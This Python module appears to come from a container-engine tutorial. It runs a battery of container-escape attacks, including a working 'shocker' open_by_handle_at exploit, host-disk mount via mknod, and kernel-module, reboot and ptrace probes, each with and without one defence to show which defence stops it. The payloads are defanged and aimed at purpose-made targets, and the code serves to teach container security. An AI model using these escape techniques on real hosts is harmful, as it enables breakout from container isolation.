"""Chapter 06: the attack battery: what root in a container tries, and which defence stops it.

Each :class:`Attack` is a shell script run as the container's command: it exits 0 if the attack
worked and prints one line of evidence. Where busybox has no tool for a raw syscall (``reboot``,
``init_module``, ``ptrace``...), the script runs a probe of a few dozen bytes written by
:func:`minidocker.security.elf.syscall_program`: its exit status is the errno the kernel answered.

Every attack is run twice: against the defended container (Docker's defaults) where it must fail,
and with that one defence switched off (``--privileged``, ``--cap-add``, ``--security-opt ...``)
where it must succeed. The second run proves that the *defence* stopped the first, not a
missing tool or a typo in the script.

Nothing here harms the host, even with the defences off: ``reboot`` gets invalid magic numbers
(EINVAL at best), the module is garbage (never loaded), writable kernel files are opened and
closed without a byte written, the clock gets its own error estimate back, the process killed
is a ``sleep`` started for the purpose, the vsock socket is opened and closed without a
connection, the AF_ALG socket is bound to no algorithm, the io_uring gets no work, and "the
host's disk" is a read-only ext4 image on a loop device, made for the purpose
(:mod:`minidocker.security.hostdisk`): the host's real disk is never opened.

Run it (as root)::

    python -m minidocker.security.attacks       # the table: attack, defence, result with and without it
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from minidocker import rootfs
from minidocker.chroot import stage as chroot
from minidocker.core import stage as _stage
from minidocker.core import syscalls as _syscalls
from minidocker.security import elf as _elf
from minidocker.security import hostdisk as _hostdisk

__all__ = ["ATTACKS", "BASE_OPTIONS", "Attack", "Outcome", "Targets", "arena", "battery", "main",
           "prepare_rootfs", "run_attack", "shocker_program", "table", "targets"]


@dataclass(frozen=True)
class Targets:
    """Things on the host an attack aims at, made for the purpose (see :func:`targets`)."""

    marker: str  # a host file holding "host secret"
    disk: tuple[int, int] | None  # major, minor of a block device of the host holding the secret
    no_disk: str  # why there is no such device here ("" if there is)
    path_on_disk: str  # the secret's path inside that disk's filesystem
    sys_file: str  # a writable-when-rw file of /sys
    esterror_timex: bytes  # struct timex that sets the clock's error estimate to its current value
    victim: int  # a sacrificial host process (sleep) that lives as long as the targets


@dataclass(frozen=True)
class Attack:
    """One attack: a script (exit 0 = it worked), the defence, and how to switch that defence off."""

    name: str
    defence: str
    script: str  # formatted with the Targets' fields, {prey}: a host process to kill, and {breakout}
    undefended: tuple[str, ...]  # engine options that switch the defence off
    defended: tuple[str, ...] = ()  # engine options of the defended run: usually Docker's defaults
    probes: dict[str, Callable[[Targets], bytes]] = field(default_factory=dict)  # /attack/NAME
    requires: Callable[[Targets], str] = lambda _t: ""  # why it cannot run here ("" if it can)
    # why the run with the defence off would prove nothing here (the kernel lacks what is attacked)
    requires_undefended: Callable[[Targets], str] = lambda _t: ""
    refusal: str = ""  # the error the defended run must end with, if another would not prove the defence


@dataclass
class Outcome:
    """How one run of an attack went."""

    succeeded: bool
    returncode: int
    evidence: str  # the last line it printed (stdout if it worked, else stderr)


_PTRACE_SEIZE, _ADJ_ESTERROR, _AF_ALG, _AF_VSOCK, _SOCK_SEQPACKET = 0x4206, 0x0008, 38, 40, 5
_SOCKET, _IO_URING_SETUP = 41, 425
_IO_URING_PARAMS = bytes(120)  # struct io_uring_params, zeroed: the kernel fills it in
# Every run is otherwise the default container, without a network: chapter 05's bridge plays no
# part in these attacks, and costs half a second a run.
BASE_OPTIONS = ("--network", "none")


def _expect(command: str, test: str, success: str) -> str:
    """Shell: run ``command``; if ``test`` holds for its status ``$s`` print ``success``, else its errno."""
    return f"{command}; s=$?; if {test}; then echo \"{success}\"; else echo errno $s >&2; exit 1; fi"


def _needs_file(path: str) -> Callable[[Targets], str]:
    return lambda _t: "" if os.path.exists(path) else f"this kernel has no {path}"


def _needs_probes(_t: Targets) -> str:
    return "" if _elf.supported() else "the syscall probes are x86-64 machine code"


def _needs_disk(t: Targets) -> str:
    return "" if t.disk else t.no_disk


def _kernel_has(what: str, nr: int, *args: int | bytes) -> Callable[[Targets], str]:
    """Why the kernel answers syscall ``nr`` with an error even with no filter at all ("" if it does not).

    Asked here, on the host, where no seccomp filter applies: if the kernel itself refuses (no
    AF_ALG, ``kernel.io_uring_disabled``...), the container's run without the filter cannot work
    either, and proves nothing about the filter.
    """
    def check(_t: Targets) -> str:
        libc = ctypes.CDLL(None, use_errno=True)
        values = [ctypes.create_string_buffer(a, len(a)) if isinstance(a, bytes) else ctypes.c_long(a)
                  for a in args]
        result = libc.syscall(ctypes.c_long(nr), *values)
        if result >= 0:
            os.close(result)  # a socket, a ring: file descriptors
            return ""
        number = ctypes.get_errno()
        return f"this kernel has no {what}: {errno.errorcode.get(number, number)} without any filter"
    return check


# --8<-- [start:shocker_program]
def shocker_program(marker: str) -> bytes:
    """The "shocker" exploit (Docker 0.11, 2014) as a probe: open the host's ``marker`` by handle, print it.

    ``open_by_handle_at(2)`` opens a file from a *handle*, bytes that name an inode of a filesystem,
    with no path: no root directory or mount namespace is in the way, only ``CAP_DAC_READ_SEARCH``
    (and seccomp, which Docker lets through when that capability is granted). The program opens
    ``/etc/hosts``, which the engine bind-mounts from its state directory on the host's filesystem,
    opens the handle of ``marker``'s directory on that filesystem, changes into it and becomes
    ``cat``. The original guessed the handle, from the root inode (2 on ext4) down; the host
    computes it here. ``marker`` must live on the filesystem of the engine's state directory.
    """
    directory, name = os.path.split(os.path.abspath(marker))
    handle = _syscalls.name_to_handle_at(-100, directory)  # AT_FDCWD: relative to our own cwd
    return _elf.chain_program(
        (2, b"/etc/hosts\0", os.O_RDONLY, 0),  # open(): a file descriptor on the host's filesystem
        (304, _elf.PREVIOUS, handle, os.O_RDONLY | os.O_DIRECTORY),  # open_by_handle_at()
        (81, _elf.PREVIOUS),  # fchdir(): now in the host's directory, outside the container's root
        (59, b"/bin/cat\0", [b"cat\0", name.encode() + b"\0"], 0))  # execve("/bin/cat", NAME)
# --8<-- [end:shocker_program]


# --8<-- [start:attacks]
# Not EPERM is enough: the kernel's own answer (ENOSYS: no modules; EAFNOSUPPORT: no vsock) shows
# that the call got past the filter, which was then the only thing in its way.
_MODULE_SEEN = ("$(if [ $s = 38 ]; then echo ENOSYS: this kernel has no module support, so the filter "
                "was the only thing in the way; else echo the kernel looked at the module: errno $s; fi)")
_VSOCK_OPENED = ("$(if [ $s = 0 ]; then echo opened an AF_VSOCK socket, connected it nowhere; "
                 "else echo the kernel answered errno $s, not the filter: no vsock here; fi)")
# --8<-- [start:attacks_part1]
ATTACKS = [
    Attack("chroot breakout (chapter 01)", "PID + mount namespaces; mount needs CAP_SYS_ADMIN",
           "{breakout}", undefended=("--privileged", "--pid", "host")),
    Attack("mount the host's disk", "seccomp and capabilities: no mount(2)",
           "mknod /dev/hostdisk b {disk[0]} {disk[1]} && mkdir -p /mnt/host && "
           "mount -o ro /dev/hostdisk /mnt/host && cat /mnt/host{path_on_disk}", ("--privileged",),
           requires=_needs_disk),
    Attack("read the host's disk through mknod", "devices cgroup: mknod yes, open no",
           "mknod /dev/hostdisk b {disk[0]} {disk[1]} && head -c 512 /dev/hostdisk | wc -c | grep -x 512 "
           "&& echo read 512 bytes of the host disk", ("--privileged",), requires=_needs_disk),
    Attack("read the host's kernel log through mknod", "devices cgroup (here even with CAP_SYSLOG)",
           "mknod /dev/hostkmsg c 1 11 && head -n1 /dev/hostkmsg | grep . && echo read the host kernel log",
           ("--privileged",), defended=("--cap-add", "SYSLOG"), requires=_needs_file("/dev/kmsg")),
# --8<-- [end:attacks_part1]
    Attack("write /proc/sysrq-trigger (reboot, crash)", "read-only path",
           "exec 3>>/proc/sysrq-trigger && echo opened it for writing, wrote nothing",
           ("--security-opt", "systempaths=unconfined"), requires=_needs_file("/proc/sysrq-trigger")),
    Attack("set core_pattern: a program the host runs as root", "read-only path (/proc/sys)",
           "exec 3>>/proc/sys/kernel/core_pattern && echo opened core_pattern for writing, wrote nothing",
           ("--security-opt", "systempaths=unconfined")),
    Attack("read the host's memory: /proc/kcore", "masked path + CAP_SYS_RAWIO",
           "head -c 4 /proc/kcore | grep -q ELF && echo read the ELF header of the host memory",
           ("--privileged",), requires=_needs_file("/proc/kcore")),
    Attack("list the host's timers: /proc/timer_list", "masked path",
           "grep -q 'Timer List' /proc/timer_list && echo $(grep -c expires /proc/timer_list) host timers "
           "seen || {{ echo /proc/timer_list is empty >&2; exit 1; }}",
           ("--security-opt", "systempaths=unconfined")),
    Attack("write to /sys (uevent_helper & co)", "read-only /sys",
           "exec 3>>{sys_file} && echo opened {sys_file} for writing, wrote nothing", ("--privileged",)),
    # --8<-- [start:attacks_part2]
    Attack("load a kernel module", "seccomp (and CAP_SYS_MODULE)",
           _expect("/attack/init_module", "[ $s != 1 ]", _MODULE_SEEN),
           ("--privileged",), requires=_needs_probes,
           probes={"init_module": lambda t: _elf.syscall_program(175, b"garbage", 7, b"\0")}),
    # --8<-- [end:attacks_part2]
    Attack("reboot the host", "seccomp and CAP_SYS_BOOT",
           _expect("/attack/reboot", "[ $s = 22 ]", "EINVAL: wrong magic numbers, but allowed to reboot"),
           ("--privileged",), requires=_needs_probes,
           probes={"reboot": lambda t: _elf.syscall_program(169, 0, 0, 0, 0)}),
    Attack("set the hostname", "UTS namespace; seccomp and CAP_SYS_ADMIN",
           "hostname attacker && echo hostname now $(hostname), in the container only", ("--privileged",)),
    Attack("set the host's clock", "CAP_SYS_TIME",
           _expect("/attack/adjtimex", "[ $s = 0 ]", "adjtimex(2) accepted a change"),
           ("--cap-add", "SYS_TIME"), requires=_needs_probes,
           probes={"adjtimex": lambda t: _elf.syscall_program(159, t.esterror_timex)}),
    Attack("kill a host process", "PID namespace: it is not there",
           "kill {prey} && echo killed host process {prey}", ("--pid", "host")),
    Attack("ptrace a host process (--pid host)", "CAP_SYS_PTRACE",
           _expect("/attack/ptrace", "[ $s = 0 ]", "attached to host process {victim}"),
           ("--pid", "host", "--privileged"),
           defended=("--pid", "host"),
           probes={"ptrace": lambda t: _elf.syscall_program(101, _PTRACE_SEIZE, t.victim, 0, 0)},
           requires=_needs_probes),
    Attack("reconfigure the network", "CAP_NET_ADMIN (NET_RAW is kept: ping works)",
           "ip link set lo mtu 1400 && echo lo reconfigured", ("--cap-add", "NET_ADMIN")),
    Attack("open a socket to the hypervisor (AF_VSOCK)", "seccomp: no socket(AF_VSOCK)",
           _expect("/attack/vsock", "[ $s != 1 ]", _VSOCK_OPENED),
           ("--security-opt", "seccomp=unconfined"), requires=_needs_probes,
           probes={"vsock": lambda t: _elf.syscall_program(_SOCKET, _AF_VSOCK, 1, 0)}),  # SOCK_STREAM
    Attack("open a socket to the kernel's crypto API (AF_ALG)", "seccomp: no socket(AF_ALG)",
           _expect("/attack/af_alg", "[ $s = 0 ]", "opened an AF_ALG socket, bound it to no algorithm"),
           ("--security-opt", "seccomp=unconfined"), requires=_needs_probes, refusal="EPERM",
           requires_undefended=_kernel_has("AF_ALG", _SOCKET, _AF_ALG, _SOCK_SEQPACKET, 0),
           probes={"af_alg": lambda t: _elf.syscall_program(_SOCKET, _AF_ALG, _SOCK_SEQPACKET, 0)}),
    Attack("set up an io_uring", "seccomp: no io_uring_*",
           _expect("/attack/io_uring", "[ $s = 0 ]", "io_uring_setup gave a ring: no filter sees its work"),
           ("--security-opt", "seccomp=unconfined"), requires=_needs_probes, refusal="EPERM",
           requires_undefended=_kernel_has("io_uring", _IO_URING_SETUP, 1, _IO_URING_PARAMS),
           probes={"io_uring": lambda t: _elf.syscall_program(_IO_URING_SETUP, 1, _IO_URING_PARAMS)}),
    Attack("all capabilities back, in a new user namespace", "seccomp: no unshare(2)",
           "unshare -U -r true && echo new user namespace: root with every capability in it",
           ("--security-opt", "seccomp=unconfined")),
    Attack("open a host file by its handle (shocker)", "CAP_DAC_READ_SEARCH (seccomp follows it)",
           "/attack/shocker; s=$?; [ $s = 0 ] || {{ echo errno $s >&2; exit 1; }}",
           ("--cap-add", "DAC_READ_SEARCH"), requires=_needs_probes,
           probes={"shocker": lambda t: shocker_program(t.marker)}),
    # --8<-- [start:attacks_part3]
    Attack("setuid binary as a user (no-new-privileges)", "no_new_privs: setuid bits ignored",
           _expect("su -s /bin/sh attacker -c /attack/setuid0", "[ $s = 0 ]",
                   "user 1000 became root through a setuid file"),
           (), defended=("--security-opt", "no-new-privileges"),
           probes={"setuid0": lambda t: _elf.syscall_program(105, 0)}, requires=_needs_probes),
]
    # --8<-- [end:attacks_part3]
# --8<-- [end:attacks]


def _esterror_timex() -> bytes:
    """``struct timex`` (208 bytes) read now, with ``modes = ADJ_ESTERROR``: writes back what is there."""
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(208)
    libc.adjtimex(buf)  # modes = 0: only reads
    return (_ADJ_ESTERROR).to_bytes(4, "little") + buf.raw[4:]


@contextlib.contextmanager
def targets(directory: str) -> Iterator[Targets]:
    """Make the host-side targets in ``directory``: a marker file with a secret, a disk, and the rest.

    The disk is a loop device holding the same secret (:func:`minidocker.security.hostdisk.loop_disk`),
    or ``None`` with the reason if this host has no loop device to give.
    """
    marker = os.path.join(directory, "secret")
    with open(marker, "w") as f:
        f.write("host secret\n")
    sys_file = next((p for p in ("/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/power/state")
                     if os.path.exists(p)), "/sys/kernel/uevent_seqnum")
    with contextlib.ExitStack() as cleanup:
        cleanup.callback(os.unlink, marker)
        try:
            disk = cleanup.enter_context(_hostdisk.loop_disk(directory, {"secret": b"host secret\n"}))
            no_disk = ""
        except OSError as e:
            disk, no_disk = None, e.strerror or str(e)
        victim = subprocess.Popen(["sleep", "3600"])
        cleanup.callback(victim.wait)
        cleanup.callback(victim.kill)
        yield Targets(marker, disk, no_disk, "/secret", sys_file, _esterror_timex(), victim.pid)


def prepare_rootfs(directory: str, aims: Targets) -> str:
    """A private copy of the busybox rootfs in ``directory``, with a user 1000 and every probe in /attack.

    The probes are written once, so the rootfs stays the same from one attack to the next (chapter
    04 imports it as a layer only once). ``setuid0`` is setuid root: the no-new-privileges attack.
    """
    copy = os.path.join(directory, "rootfs")
    shutil.copytree(rootfs.busybox_rootfs(), copy, symlinks=True)
    with open(os.path.join(copy, "etc/passwd"), "a") as f:
        f.write("attacker:x:1000:1000:attacker:/tmp:/bin/sh\n")
    os.makedirs(os.path.join(copy, "attack"))
    for attack in ATTACKS:
        for name, build in attack.probes.items():
            path = os.path.join(copy, "attack", name)
            with open(path, "wb") as f:
                f.write(build(aims))
            os.chmod(path, 0o4755 if name.startswith("setuid") else 0o755)
    return copy


@contextlib.contextmanager
def arena() -> Iterator[tuple[str, Targets]]:
    """A scratch directory holding the targets and the rootfs, and private engine state; all removed after.

    ``MINIDOCKER_STATE`` points into it meanwhile, so that chapter 04's layer store of the attack
    containers is thrown away with it.
    """
    saved = os.environ.get("MINIDOCKER_STATE")
    with tempfile.TemporaryDirectory(prefix="minidocker-attacks-") as scratch:
        os.chmod(scratch, 0o755)
        os.environ["MINIDOCKER_STATE"] = os.path.join(scratch, "state")
        try:
            with targets(scratch) as aims:
                yield prepare_rootfs(scratch, aims), aims
        finally:
            if saved is None:
                os.environ.pop("MINIDOCKER_STATE", None)
            else:
                os.environ["MINIDOCKER_STATE"] = saved


# --8<-- [start:run_attack]
def run_attack(attack: Attack, root: str, aims: Targets, options: tuple[str, ...],
               stage: str = "security") -> Outcome:
    """Run ``attack`` in a container of ``stage`` with ``options``, on ``root`` (see :func:`prepare_rootfs`).

    A sacrificial ``sleep`` on the host is the prey of the attack that kills a host process: it is
    ours to kill, and it is killed at the end whatever happened.
    """
    prey = subprocess.Popen(["sleep", "300"])
    try:
        breakout = chroot.breakout_script(aims.marker)
        script = attack.script.format(prey=prey.pid, breakout=breakout, **vars(aims))
        result = _stage.run_stage(stage, *BASE_OPTIONS, *options, root, "--", "/bin/sh", "-c", script,
                                  timeout=60)
    finally:
        prey.kill()
        prey.wait()
    succeeded = result.returncode == 0
    lines = (result.stdout if succeeded else result.stderr or result.stdout).strip().splitlines()
    evidence = lines[-1] if lines else f"exit status {result.returncode}"
    if evidence.startswith("errno ") and evidence[6:].isdigit():  # from a probe: name it
        number = int(evidence[6:])
        evidence = f"{errno.errorcode.get(number, number)}: {os.strerror(number)}"
    return Outcome(succeeded, result.returncode, evidence)
# --8<-- [end:run_attack]


def battery(root: str, aims: Targets) -> list[tuple[Attack, str, Outcome | None, Outcome | None]]:
    """Every attack, defended and undefended: ``(attack, why skipped, defended, undefended)``.

    An attack whose undefended run proves nothing here (:attr:`Attack.requires_undefended`) runs
    defended only: its row has the reason and ``None`` for the undefended outcome.
    """
    rows = []
    for attack in ATTACKS:
        reason = attack.requires(aims)
        if reason:
            rows.append((attack, reason, None, None))
            continue
        defended = run_attack(attack, root, aims, attack.defended)
        reason = attack.requires_undefended(aims)
        rows.append((attack, reason, defended,
                     None if reason else run_attack(attack, root, aims, attack.undefended)))
    return rows


def table(rows: list[tuple[Attack, str, Outcome | None, Outcome | None]]) -> str:
    """The battery's results as a Markdown table."""

    def cell(outcome: Outcome | None, options: tuple[str, ...]) -> str:
        if outcome is None:
            return ""
        verdict = "**worked**" if outcome.succeeded else "blocked"
        return f"{verdict}: {outcome.evidence.replace('|', '/')[:90]} (`{' '.join(options) or 'defaults'}`)"

    lines = ["| attack | defence | defended (options) | defence off (options) |", "|---|---|---|---|"]
    for attack, reason, defended, undefended in rows:
        if reason and defended:
            lines.append(f"| {attack.name} | {attack.defence} | {cell(defended, attack.defended)} | "
                         f"skipped: {reason} |")
        elif reason:
            lines.append(f"| {attack.name} | {attack.defence} | skipped: {reason} | |")
        else:
            lines.append(f"| {attack.name} | {attack.defence} | {cell(defended, attack.defended)} | "
                         f"{cell(undefended, attack.undefended)} |")
    return "\n".join(lines)


def main() -> int:
    """``python -m minidocker.security.attacks``: the battery in a scratch copy of the rootfs, as a table."""
    with arena() as (root, aims):
        print(table(battery(root, aims)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
